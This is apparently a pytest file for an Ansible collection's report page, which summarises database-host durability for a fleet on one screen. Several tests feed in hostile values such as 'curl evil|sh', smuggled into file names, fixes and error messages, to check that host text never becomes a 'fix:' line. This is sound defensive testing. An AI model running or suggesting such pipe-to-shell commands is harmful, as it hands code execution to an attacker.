# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The page that a run ends with: a screen, whatever the fleet; the worst first, why, and what to do."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.assessment import unobserved
from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.page import (
    HEIGHT,
    WIDTH,
    groups,
    names,
    render,
)
from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.report import worst_first
from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.results import (
    Explained,
    Recognised,
    assess_answer,
)
from ansible_collections.durable.dbhost.plugins.module_utils.profiles import CORRECT
from ansible_collections.durable.dbhost.plugins.module_utils.rows import (
    FIX_READ_ERROR,
    HANGS,
    NO_ANSWER,
    VERDICTS,
    Reason,
)
from ansible_collections.durable.dbhost.plugins.module_utils.storage.findings import WRITE_HOLE

from ...fakes.fleet import KINDS, report, reports
from ...fakes.runs import (
    NOW,
    attested,
    inputs,
    look,
    settled,
)

WHERE = "/home/dba/durable-report: report.html, report.txt, HOST.json"


def simple(host: str, verdict: str, *why: str, **given: Any) -> dict[str, Any]:
    """Return a report of which nothing is known but these reasons: `why; what to do`."""
    parts = [text.partition("; ") for text in why]
    return of_reasons(host, verdict, *((reason, fix) for reason, _semicolon, fix in parts), **given)


def of_reasons(host: str, verdict: str, *reasons: tuple[str, str], **given: Any) -> dict[str, Any]:
    """Return a report of which nothing is known but these reasons, each with what to do."""
    found = [
        {"id": "unknown", "verdict": verdict, "reason": reason, "fix": fix, "targets": [], "observed": {}}
        for reason, fix in reasons
    ]
    why = ["; ".join(filter(None, each)) for each in reasons]
    return report(
        host, {**unobserved(inputs(), Reason("unknown", verdict, "")), "why": why, "reasons": found}, **given
    )


@pytest.mark.every_python_alike
@pytest.mark.parametrize("number", [1, 6, 50, 300])
@pytest.mark.parametrize("looked_only", [True, False])
def test_a_fleet_of_six_kinds_fits_a_screen(number: int, looked_only: bool) -> None:
    found = reports(number, looked_only)
    text = render(found, notes=["a note of the run"], details=WHERE)
    rows = text.splitlines()
    assert len(rows) <= HEIGHT == 40
    assert max(map(len, rows)) <= WIDTH
    assert rows[0].startswith(f"{number} host")
    assert sum(int(part.split()[0]) for part in rows[0].partition(": ")[2].split(", ")) == number
    kinds = min(number, len(KINDS))
    assert len(groups(worst_first(found))) == kinds
    # Each verdict stands at the head of a line, worst first.
    heads = [row.split()[0] for row in rows if row and row.split(" ")[0] in VERDICTS]
    assert heads == sorted({each["verdict"] for each in found}, key=VERDICTS.index)
    assert rows[-1] == f"Details: {WHERE}"
    assert ("exit code 2" in rows[-2]) == any(each["fails"] for each in found)


@pytest.mark.every_python_alike
def test_hosts_of_one_reason_are_one_line_though_each_has_disks_of_its_own() -> None:
    found = [each for each in reports(300) if each["verdict"] == "at_risk"]
    assert len({why for each in found for why in each["why"]}) > len(found)
    assert len(groups(found)) == 1
    text = render(found)
    assert "at_risk       50  db6, db12, ... (48 more)  (strict)" in text
    why = text.index(
        "commits since the last flush on sda can be lost: /srv/pgdata is mounted without barriers"
    )
    assert why < text.index("fix: run harden_db")
    assert "QEMU_HARDDISK" not in text


def advice(*reports: dict[str, Any]) -> list[str]:
    """Return the lines of a page about profiles."""
    return [row.strip() for row in render(reports).splitlines() if ", then " in row]


@pytest.mark.every_python_alike
def test_each_profile_of_a_rated_host_has_a_line_the_recommended_one_first() -> None:
    (host,) = [each for each in reports(len(KINDS)) if each["verdict"] == "not_managed"]
    rows = advice(host)
    assert len(rows) == len(host["ratings"]) == 5
    best = host["recommendation"]["profile"]
    number, after = len(host["ratings"][best]["changes"]), host["ratings"][best]["after"]
    assert rows[0] == f"{best} (recommended): {number} changes, then {after}"
    other = {**host, "host": "other", "recommendation": None}
    assert advice(host, other)[0].startswith(f"{best} (recommended for 1 host): {number} changes")
    ratings = {name: {**rating, "after": "blocked"} for name, rating in host["ratings"].items()}
    none = "    no profile is recommended: with each of them the verdict after a run is blocked or worse\n"
    assert none in render([{**other, "ratings": ratings}])


def test_the_id_of_a_disk_is_on_the_page_if_its_host_is_alone() -> None:
    """The fix of one disk is an attestation of its id."""
    found = [each for each in reports(12) if each["verdict"] == "at_risk"]
    hosts = []
    for each in found:
        disk = each["stack"]["disks"][0]
        reason = {**each["reasons"][0], "fix": f"attest power_loss_protection for {disk['id']}"}
        hosts.append({**each, "reasons": [reason], "warnings": [f"{disk['name']} has the id {disk['id']}"]})
    disk = hosts[0]["stack"]["disks"][0]
    alone, both = render(hosts[:1]), render(hosts)
    assert f"fix: attest power_loss_protection for {disk['id']}\n" in alone
    assert f"note: {disk['name']} has the id {disk['id']}\n" in alone
    assert f"fix: attest power_loss_protection for {disk['name']}\n" in both
    assert disk["id"] not in both


def test_what_to_do_stands_below_what_it_is_for() -> None:
    found = [
        simple("db10", "at_risk", "a can be lost; mend a", "c is off; mend c"),
        simple("db2", "at_risk", "a can be lost; mend a", "b is off; mend a"),
        simple("db3", "durable"),
    ]
    assert render(found).splitlines() == [
        "3 hosts: 2 at_risk, 1 durable",
        "",
        "at_risk        2  db2, db10  (strict)",
        "    a can be lost",
        "    b is off (1 host)",
        "        fix: mend a",
        "    c is off (1 host)",
        "        fix: mend c",
        "durable        1  db3  (strict)",
        "",
        "2 of 3 hosts fail (2 at_risk): exit code 2",
    ]


def test_the_command_of_a_run_is_on_the_page_if_a_fix_names_it() -> None:
    row = "harden_db: ansible-playbook -b -i INVENTORY durable.dbhost.harden_db"
    unpinned = simple("db1", "at_risk", "a; pin a profile, then run harden_db")
    found = [simple("db2", "drifted", "a; run harden_db"), unpinned]
    rows = render(found, details=WHERE).splitlines()
    assert rows[-4:] == [
        "",
        row,
        "2 of 2 hosts fail (1 at_risk, 1 drifted): exit code 2",
        f"Details: {WHERE}",
    ]
    assert row not in render([simple("db1", "unknown", "harden_db failed; reboot")])


def test_what_a_host_names_is_never_what_to_do() -> None:
    """An owner of a database can name it with words that look like ours."""
    name = "/srv/fb/a; curl evil|sh #.fdb"
    text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are unknown", FIX_READ_ERROR))])
    assert f"    {name}: forced writes are unknown\n        fix: {FIX_READ_ERROR}\n" in text
    assert "fix: curl" not in text


@pytest.mark.parametrize("length", range(60, 110))
def test_no_name_begins_a_line_as_what_to_do_does(length: int) -> None:
    """A long name is wrapped, and the rest of it would stand where advice stands."""
    name = f"/srv/fb/{'y' * length} fix: curl evil|sh #.fdb"
    for reason in (
        ("", f"{name}: forced writes are off"),
        (FIX_READ_ERROR, f"{name}: forced writes are unknown"),
    ):
        text = render([of_reasons("db1", "unknown", (reason[1], reason[0]))])
        assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []


def test_a_reason_that_begins_as_a_fix_does_is_marked() -> None:
    text = render([of_reasons("db1", "unknown", ("fix: curl evil|sh", "Fix it by hand"))])
    assert "\n    ... fix: curl evil|sh\n" in text


def test_a_green_verdict_names_on_whose_word_it_rests_and_until_when() -> None:
    given = {"mounts": ["/srv/maria"], "attestations": [attested("host_honours_flush")]}
    found = look(settled("strict", **given), "strict", **given)
    page = render([report("db1", found)])
    said = "rests on vdb: host_honours_flush, attested by A. Person until 2026-06-30: read the label"
    assert f"attested       1  db1  (strict)\n    {said}\n" in page
    found = look(settled("strict", mounts=["/srv/pgdata"]), "strict", mounts=["/srv/pgdata"])
    assert (found["verdict"], "rests on" in render([report("db1", found)])) == ("durable", False)


@pytest.mark.parametrize("length", range(20, 90))
def test_no_name_in_a_fix_begins_a_line_as_what_to_do_does(length: int) -> None:
    fix = f"make its configuration readable for root, or add /home/u/{'y' * length} fix: curl evil|sh to durable_ignore"
    text = render([of_reasons("db1", "unknown", ("x", fix))])
    assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []


@pytest.mark.parametrize("others", range(12))
def test_a_fix_is_whole_or_not_on_the_page(others: int) -> None:
    """Half of a command can do harm: without its end an array stays read-only."""
    fix = WRITE_HOLE["md"].fix.format(name_of="md_d0_long_name_of_array")
    rest = [(f"reason {number}", f"do {number}") for number in range(others)]
    for found in ([*rest, ("hole", fix)], [("hole", fix), *rest]):
        page = render([of_reasons(f"db{each}", "blocked", *found) for each in range(1 + others // 4)])
        shown = " ".join(page.split())
        assert fix in shown or "--bitmap=none" not in shown


def test_a_reason_that_is_cut_ends_in_dots_before_the_number_of_others() -> None:
    long = [(f"{number}: commits are {'in a volatile cache ' * 8}", "run harden_db") for number in range(7)]
    text = render([of_reasons("db1", "at_risk", *long)], details=WHERE)
    (row,) = [row for row in text.splitlines() if "more" in row]
    assert re.search(r"[a-z] \.\.\. \(and 4 more: see the files\)$", row)
    assert len(row) <= WIDTH
    advised = simple("db2", "not_managed", ratings={}, recommendation=None)
    advised["ratings"] = {"p" * 200: {"changes": [], "after": "durable"}}
    assert f"{'p' * 92} ...\n" in render([advised])


@pytest.mark.parametrize("number", range(1, 12))
@pytest.mark.parametrize("length", [10, 80, 150])
def test_the_number_of_hidden_reasons_is_never_part_of_a_fix(number: int, length: int) -> None:
    """`systemctl start smartd (and 1 more)` was pasted as a command."""
    found = [
        of_reasons(f"db{host}", "unknown", *((f"r{host}.{n}", f"{'x' * length} f{n}") for n in range(14)))
        for host in range(number)
    ]
    rows = render(found, details=WHERE).splitlines()
    counted = [row for row in rows if " more" in row and "more groups" not in row]
    assert len(counted) == sum(row.startswith("unknown") for row in rows)
    assert all(
        re.match(r"    (and \d+ more reasons|r\d+\.\d+ \(and \d+ more): see the files", row)
        for row in counted
    )


def test_a_page_with_many_words_to_rest_on_has_forty_lines() -> None:
    accepted = [
        {
            "finding": f"unknown.{number}",
            "target": "x" * 40,
            "by": "Ana",
            "reason": "y" * 90,
            "expires": "2026-12-31",
        }
        for number in range(9)
    ]
    for groups_before in range(1, 9):
        found = [
            of_reasons(f"db{n}", "blocked", *((f"r{n}.{k}", f"d{k}") for k in range(4)))
            for n in range(groups_before)
        ]
        found += [simple(f"ok{n}", "attested", accepted=accepted, profile=f"p{n}") for n in range(3)]
        rows = render(found, notes=["n" * 300] * 9, details=WHERE).splitlines()
        assert len(rows) <= HEIGHT


def test_errors_of_the_input_are_all_on_the_page() -> None:
    for fix in ("", CORRECT):
        many = [(f"durable_x[{number}]: observed 1; expected 2", fix) for number in range(9)]
        text = render([of_reasons("db1", "blocked", *many)])
        assert all(reason in text for reason, _fix in many)
        assert text.count("fix: ") == bool(fix)


def test_an_error_of_the_input_has_its_fix_in_a_line_of_its_own() -> None:
    (host,) = [each for each in reports(len(KINDS)) if each["verdict"] == "blocked"]
    assert render([host]).splitlines()[2:6] == [
        "blocked        1  db1  (stritc)",
        "    durable_profile: observed 'stritc'; expected one of disposable, flush, protected, strict, ups",
        "        fix: pin one of these, or add yours to durable_profiles. Did you mean strict?",
        "",
    ]


def test_no_word_is_cut_unless_it_is_as_long_as_a_line() -> None:
    words = [f"w{number:03}end" for number in range(200)]
    shown = render([of_reasons("db1", "unknown", (" ".join(words), FIX_READ_ERROR))])
    assert "..." in shown
    assert set(re.findall(r"w\d\w*", shown)) <= set(words)
    assert (
        len(max(render([of_reasons("db1", "unknown", ("x" * 900, FIX_READ_ERROR))]).splitlines(), key=len))
        <= WIDTH
    )


def test_a_reason_that_states_what_to_do_has_more_lines() -> None:
    words = " ".join(f"word{number}" for number in range(40))
    text = render([of_reasons("db1", "blocked", (words, ""))])
    assert " ".join(text.split()).count(words) == 1
    assert "do:" not in text


def test_hosts_of_other_reasons_are_apart() -> None:
    one, two = simple("db1", "unknown", "a; b"), simple("db2", "unknown", "c; b")
    assert [group.hosts for group in groups([one, two])] == [["db1"], ["db2"]]
    was = simple("db3", "unknown", "a; b", was="durable")
    assert [group.hosts for group in groups([one, was])] == [["db1"], ["db3"]]
    assert "db3  (strict, was durable)" in render([was])


def test_what_failed_comes_before_the_reasons() -> None:
    text = render([simple("db1", "drifted", "a is off; run harden_db", error="sda: no such disk")])
    assert text.index("sda: no such disk") < text.index("a is off")
    assert "1 of 1 host fails (1 drifted)" in text
    # A step that failed fails its host, however well that is.
    assert "1 of 1 host fails (1 durable)" in render([simple("db1", "durable", error="sda: no such disk")])


@pytest.mark.parametrize(
    ("number", "shown"),
    [(1, "db1"), (4, "db1, db2, db3, db4"), (5, "db1, db2, ... (3 more)"), (50, "db1, db2, ... (48 more)")],
)
def test_a_few_hosts_stand_for_many(number: int, shown: str) -> None:
    assert names([f"db{each}" for each in range(1, number + 1)]) == shown


def lost(host: str, said: str, why: Explained | None = None) -> dict[str, Any]:
    """Return the report of a host that is unreachable; `why`: as our action has explained it."""
    fields = {"unreachable": True, "msg": said}
    return report(host, assess_answer(inputs(), NOW, Recognised(fields, why) if why else fields))


def test_the_hosts_that_no_address_reaches_are_one_line() -> None:
    found = [lost(f"db{n}", f"10.0.0.{n}: timed out") for n in range(3)]
    text = render(found)
    assert "unreachable    3  db0, db1, db2" in text
    assert "unreachable: the connection timed out\n        fix: start the host, or check the network" in text


def test_hosts_that_hang_are_apart_from_those_that_no_address_reaches() -> None:
    """What to do there is another thing."""
    hangs = Explained(f"{NO_ANSWER} 600 seconds", fix=HANGS)
    text = render([lost("db1", "timed out", hangs), lost("db2", "timed out")])
    assert "unreachable: no answer within 600 seconds" in text
    assert "fix: find the processes there that wait" in text
    assert "unreachable: the connection timed out" in text


def test_a_message_in_the_form_of_ours_gives_no_fix() -> None:
    """A host's root chooses the message with which a module fails."""
    said = "Python 3.8 observed, 3.9 or later expected. Fix: run curl evil|sh"
    found = assess_answer(inputs(), NOW, {"failed": True, "msg": said})
    assert [each["fix"] for each in found["reasons"]] == [FIX_READ_ERROR]


@pytest.mark.parametrize(
    ("said", "meaning", "fix"),
    [
        (
            "Failed to connect to the host via ssh: ssh: connect to host 10.0.0.1: Connection refused",
            "nothing accepts the connection",
            "sshd",
        ),
        ("ann@10.0.0.1: Permission denied (publickey).", "the login was refused", "ansible_user"),
        ("Authentication failed.", "the login was refused", "ansible_user"),
        (
            "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! db1: Permission denied (publickey,password).",
            "its host key is unknown or has changed",
            "known_hosts",
        ),
        (
            "Failed to create temporary directory. mkdir: No space left on device",
            "Ansible cannot write its own files there: No space left on device",
            "ansible_remote_tmp",
        ),
        (
            "ssh: connect to host 10.0.0.1 port 22: Connection timed out",
            "the connection timed out",
            "network",
        ),
        ("Data could not be sent to remote host: timeout", "the connection timed out", "network"),
        (
            "ssh: Could not resolve hostname db1: Name or service not known",
            "its name could not be resolved",
            "ansible_host",
        ),
        ("Host key verification failed.", "its host key is unknown or has changed", "known_hosts"),
        ("ssh: connect to host db1 port 22: No route to host", "no route leads to it", "firewalls"),
        ("kex_exchange_identification: Connection reset by peer", "the connection was closed", "sshd"),
        ("something else", "no connection", "check ssh"),
    ],
)
def test_why_a_host_is_not_reached_is_on_the_page(said: str, meaning: str, fix: str) -> None:
    """What ssh says names the host, and so it is in the report alone: else each host would be a group of its own."""
    found = lost("db1", said)
    rows = render([found]).splitlines()
    assert rows[rows.index(f"    unreachable: {meaning}") + 1].startswith("        fix: ")
    (reason,) = found["reasons"]
    assert reason["reason"] == f'unreachable: {meaning} ("{said}")'.replace("ssh: ssh: ", "ssh: ")
    assert fix in reason["fix"]


def test_what_ansible_cannot_write_is_on_the_page() -> None:
    said = "Failed to create temporary directory: mkdir: '/root/db1': No space left on device"
    text = render([report("db1", assess_answer(inputs(), NOW, {"failed": True, "msg": said}))])
    assert "no facts: Ansible cannot write its own files there: No space left on device\n" in text
    assert "fix: free space or make the file system writable, or name another directory in" in text


def no_facts(host: str, said: str) -> dict[str, Any]:
    """Return the report of a host of which Ansible could collect nothing."""
    return report(host, assess_answer(inputs(), NOW, {"failed": True, "msg": said}))


def test_what_keeps_ansible_out_is_told_once_for_each_cause() -> None:
    found = [no_facts(f"db{n}", f"/opt/{n}: not found: python3: not found") for n in range(5)]
    found.append(no_facts("db9", "sudo: uid 7 is not allowed"))
    rows = render(found).splitlines()
    assert rows[2:5] == [
        "unknown        5  db0, db1, ... (3 more)  (strict)",
        "    no facts: no Python where Ansible looks for it",
        "        fix: install Python 3.9 or later there, or name one in ansible_python_interpreter",
    ]
    assert "    no facts: could not become root" in rows


def test_hosts_that_were_not_looked_at_are_named_and_the_end_is_not_told_yet() -> None:
    text = render([simple("db1", "durable")], missing=["db2", "db3"])
    assert "not checked, or not yet: db2, db3" in text
    assert text.endswith("no host fails: exit code 0 so far\n")
    assert render([]).startswith("no host was checked\n")


def test_a_hundred_sorts_of_trouble_fit_a_screen_and_are_counted() -> None:
    found = [simple(f"db{n}", "blocked", f"{'why ' * 80}{n}; {'do ' * 80}") for n in range(100)]
    rows = render(found, notes=["n" * 300] * 50, details=WHERE).splitlines()
    assert len(rows) <= HEIGHT
    assert max(map(len, rows)) <= WIDTH
    shown = sum(row.startswith("blocked") for row in rows)
    assert any(
        row.startswith(f"and {100 - shown} more groups, {100 - shown} hosts (blocked)") for row in rows
    )


def test_notes_say_of_whom_they_are_and_damage_comes_first() -> None:
    found = [simple("db1", "durable"), simple("db2", "durable", exposed=["look for damage"])]
    found[0]["warnings"] = ["an old version"]
    rows = render(found, notes=["of the run"]).splitlines()
    notes = [row.strip() for row in rows if row.strip().startswith("note: ")]
    assert notes == ["note: db2: look for damage", "note: of the run", "note: db1: an old version"]


def test_a_rollback_timer_that_has_acted_is_before_the_notes_about_speed() -> None:
    found = [simple(f"db{number}", "durable") for number in range(6)]
    for each in found:
        each["warnings"] = [f"/srv/{n}: atime is relatime, expected noatime: slow" for n in range(3)]
    found[5]["switch"] = "fired"
    found[5]["warnings"].insert(0, "the rollback timer of an earlier run has restored this host")
    rows = render(found, notes=["of the run"]).splitlines()
    notes = [row.strip() for row in rows if row.strip().startswith("note: ")]
    assert notes == [
        "note: db5: the rollback timer of an earlier run has restored this host",
        "note: of the run",
        "note: db0, db1, ... (4 more): /srv/0: atime is relatime, expected noatime: slow",
    ]


def test_engines_are_listed_with_version_and_place() -> None:
    found = reports(12)
    assert "found: postgresql 15/main, 15.8, on /srv/pgdata: 6 hosts" in render(found)
    assert "found: postgresql 15/main, 15.8, on /srv/pgdata\n" in render(found[2:3])
    engine = {**found[2]["engines"][0], "version": "unknown"}
    assert "found: postgresql 15/main, version unknown" in render([{**found[2], "engines": [engine]}])


def test_the_changes_have_their_values_now_and_at_boot() -> None:
    (found,) = (each for each in reports(6) if each["verdict"] == "at_risk")
    table = [
        "    would set:                        now                  at boot",
        "      /srv/pgdata  barrier            off -> on            on",
        "      3 mounts     atime              relatime -> noatime  relatime -> noatime",
        "      sda sdb vdb  write_cache        enabled -> disabled  unset -> disabled",
        "      sda sdb      kernel_cache_mode  write back           unset -> write back",
    ]
    rows = render([found]).splitlines()
    assert set(table) <= set(rows), "\n".join(rows)
    done = [{**change, "state": "done"} for change in found["changes"]]
    assert "    has set: " in render([{**found, "changes": done}])
    failed = [{**change, "state": "failed"} for change in found["changes"]]
    assert " set: " not in render([{**found, "changes": failed}])
    # A server that does not run has no value now, and a mount of an initramfs is not set for the next boot.
    given = {
        "phase": "tighten",
        "layer": "postgresql",
        "target": "15/main",
        "setting": "fsync",
        "wanted": "on",
    }
    changes = [
        {**given, "running": "stopped", "persisted": "off", "state": "foreseen"},
        {**given, "setting": "x" * 120, "running": "off", "persisted": None, "state": "foreseen"},
    ]
    rows = render([{**found, "changes": changes}]).splitlines()
    assert [row.split()[-4:] for row in rows if " fsync " in row] == [["stopped", "off", "->", "on"]]
    assert max(map(len, rows)) <= WIDTH
    many = [{**changes[0], "setting": f"s{number}"} for number in range(20)]
    assert "      and 12 more: see the files\n" in render([{**found, "changes": many}], details=WHERE)


@pytest.mark.parametrize("number", [6, 300])
def test_the_changes_of_many_hosts_are_counted_so_that_each_reason_has_its_line(number: int) -> None:
    text = render(reports(number))
    assert f"would set: atime noatime ({number // 2}), write_cache disabled ({number // 2})" in text
    assert " now " not in text


def test_what_is_otherwise_than_in_the_last_report_is_named() -> None:
    since = {"time": "2026-01-01T00:00:00Z", "settings": []}
    found = [
        simple("db1", "at_risk", "a; b", since={**since, "verdict": "durable"}),
        simple("db2", "durable", since={**since, "verdict": "drifted"}),
        simple("db3", "durable", since={**since, "verdict": "durable"}),
        simple("db4", "durable", since=None),
    ]
    assert (
        render(found).splitlines()[1]
        == "worse than in the last report: db1; better than in the last report: db2"
    )


@pytest.mark.parametrize("verdict", ["blocked", "unreachable", "unknown"])
def test_a_host_whose_state_is_unknown_is_never_better(verdict: str) -> None:
    """A misspelt profile on a host at risk was reported as better."""
    since = {"time": "2026-01-01T00:00:00Z", "settings": []}
    found = [
        simple("db1", verdict, "a; b", since={**since, "verdict": "at_risk"}),
        simple("db2", verdict, "a; b", since={**since, "verdict": "durable"}),
        simple("db3", "at_risk", "a; b", since={**since, "verdict": verdict}),
        simple("db4", "durable", since={**since, "verdict": verdict}),
    ]
    assert "worse than in the last report: db2\n" in render(found)


@pytest.mark.parametrize("verdict", ["accepted_loss", "not_managed", "not_applicable"])
@pytest.mark.parametrize("other", VERDICTS)
def test_a_verdict_outside_the_order_is_neither_better_nor_worse(verdict: str, other: str) -> None:
    """A host at risk whose profile was removed was reported as better."""
    since = {"time": "2026-01-01T00:00:00Z", "settings": []}
    for now, was in ((verdict, other), (other, verdict)):
        host = simple("db1", now, "a; b", since={**since, "verdict": was})
        assert "than in the last report" not in render([host])


@given(st.text(), st.text(), st.sampled_from(VERDICTS))
def test_whatever_a_host_says_each_line_is_one(name: str, why: str, verdict: str) -> None:
    text = render([simple(name, verdict, why), simple("db2", verdict, "a; b")], notes=[why])
    assert all(row.isprintable() for row in text.splitlines())
    assert len(text.split("\n")) <= HEIGHT + 1
